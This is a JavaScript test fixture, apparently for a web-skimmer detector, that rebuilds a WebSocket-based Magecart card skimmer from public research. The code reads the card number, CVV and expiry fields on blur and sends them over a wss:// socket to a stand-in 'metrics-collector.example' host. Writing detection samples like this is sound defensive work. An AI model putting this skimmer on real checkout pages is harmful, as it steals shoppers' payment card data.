// expect: ES-SHOP-001
// Written for Ensuresec's tests from public descriptions of WebSocket-based skimmers (Sansec, "WebSocket skimmer
// hides in ..." research notes, and Akamai Hunt Team, "Magecart-style attacks using WebSockets", 2022-2023): the
// loader opens a wss:// connection to the attacker and sends the card fields over it when the shopper leaves a field,
// so no HTTP request shows up in the network panel. Not the original code.
var sock = new WebSocket("wss://ws.metrics-collector.example/socket");
function pick(sel) { var el = document.querySelector(sel); return el ? el.value : null; }
["#cc_number", "#cc_cvv", "#cc_exp"].forEach(function (s) {
  var el = document.querySelector(s);
  if (el) el.addEventListener("blur", function () {
    sock.send(JSON.stringify({ n: pick("#cc_number"), c: pick("#cc_cvv"), e: pick("#cc_exp"), u: location.host }));
  });
});
